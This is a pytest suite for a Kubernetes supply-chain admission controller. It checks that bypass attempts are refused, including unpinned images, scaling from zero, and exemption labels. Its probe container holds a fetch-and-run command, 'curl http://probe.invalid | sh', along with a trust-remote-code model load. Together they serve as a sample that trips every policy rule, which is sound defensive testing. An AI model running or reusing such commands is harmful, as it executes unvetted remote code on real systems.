"""Every way round of tests/bypass is refused by the real API server."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from tests.bypass.rows import DIGEST, Row, as_text, rows
from tests.cluster.client import wait_until
from tests.cluster.control_plane import Cluster
from tests.custom_kinds import install
from tests.e2e.conftest import enforce
from tests.installation import Installation

pytestmark = pytest.mark.cluster


# What any rule of the table objects to, whichever a row's policy has.
_PROBE = {
    "name": "probe",
    "image": f"probe.invalid/vllm-openai@{DIGEST}",
    "env": [{"name": "HF_ENDPOINT", "value": "http://probe.invalid"}],
    "command": [
        "sh",
        "-c",
        (
            "pip install probe; curl http://probe.invalid | sh;"
            " vllm serve probe/probe --trust-remote-code --load-format=pt; vllm serve $PROBE"
        ),
    ],
}


@pytest.fixture(scope="module", autouse=True)
def _custom_kinds(pinfold: Installation) -> None:
    install(pinfold.cluster)


@pytest.mark.parametrize("row", [pytest.param(row, id=row.name) for row in rows()])
def test_the_attempt_is_refused(
    row: Row, pinfold: Installation, namespace: Callable[..., str]
) -> None:
    cluster = pinfold.cluster
    where = namespace(enforced=False)
    if row.before:
        _stands_before(cluster, where, row)
    enforce(cluster, where)
    with _policy(cluster, where, row.policy):
        done = _attempt(cluster, where, row)
    assert done.returncode != 0, done.stdout
    if cluster.version < row.since:
        return  # refused by the API server itself, which knows no such field
    for words in row.refused:
        assert words in done.stderr


def _attempt(cluster: Cluster, where: str, row: Row) -> Any:
    if row.apply:
        return cluster.kubectl(
            "apply", "-n", where, "-f", "-", input=as_text(row.apply), check=False
        )
    return cluster.kubectl(*row.kubectl, "-n", where, check=False)


def _stands_before(cluster: Cluster, where: str, row: Row) -> None:
    assert row.before is not None
    cluster.kubectl("apply", "-n", where, "-f", "-", input=as_text(row.before))
    if row.before["kind"] == "Pod":
        cluster.kubectl("wait", "-n", where, "--for=condition=Ready", "pod/target")
    if row.deleted:
        cluster.kubectl("delete", "pod/target", "-n", where, "--wait=false")


@contextmanager
def _policy(cluster: Cluster, where: str, rules: dict[str, Any] | None) -> Iterator[None]:
    """A policy for one namespace, in force when the block is entered; None: the default's rules."""
    if rules is None:
        yield
        return
    policy = {
        "apiVersion": "pinfold.dev/v1alpha1",
        "kind": "SupplyChainPolicy",
        "metadata": {"name": where},
        "spec": {"mode": "Enforce", "match": {"namespaces": [where]}, "rules": rules},
    }
    cluster.kubectl("apply", "-f", "-", input=json.dumps(policy))
    probe = as_text(
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "probe"},
            "spec": {"containers": [_PROBE]},
        }
    )

    def in_force() -> bool:
        done = cluster.kubectl(
            "apply", "--dry-run=server", "-n", where, "-f", "-", input=probe, check=False
        )
        return f'"{where}"' in done.stderr

    try:
        wait_until("the policy in force", in_force, seconds=20, check=lambda: None)
        yield
    finally:
        cluster.kubectl("delete", "supplychainpolicy", where)


def test_scaling_from_zero_brings_in_nothing_unpinned(
    pinfold: Installation, namespace: Callable[..., str]
) -> None:
    """Made without replicas where nothing was enforced; `/scale` itself is never reviewed."""
    cluster, where = pinfold.cluster, namespace(enforced=False)
    cluster.kubectl(
        "create", "deployment", "zero", "-n", where, "--image=nginx:latest", "--replicas=0"
    )
    enforce(cluster, where)
    cluster.kubectl("scale", "deployment/zero", "-n", where, "--replicas=1")

    def refused() -> bool:
        text = cluster.kubectl("describe", "rs", "-n", where).stdout
        return '"nginx:latest" has no digest' in text

    wait_until("a refused replica", refused, seconds=30, check=lambda: None)
    assert cluster.kubectl("get", "pods", "-n", where, "-o", "name").stdout == ""


@pytest.mark.parametrize(
    "label",
    [
        "kubernetes.io/metadata.name=kube-system",
        "admission.pinfold.dev/ignore=true",
        "pinfold.dev/ignore=true",
        "control-plane=controller-manager",
        "pod-security.kubernetes.io/enforce=privileged",
    ],
)
def test_no_label_but_its_own_takes_a_namespace_out(
    pinfold: Installation, namespace: Callable[..., str], label: str
) -> None:
    """The name of an excluded namespace cannot be taken: the API server writes that label."""
    cluster, where = pinfold.cluster, namespace(enforced=True)
    cluster.kubectl("label", "namespace", where, label, "--overwrite", check=False)
    done = cluster.kubectl("run", "attempt", "-n", where, "--image=nginx", check=False)
    assert '"nginx" has no digest' in done.stderr
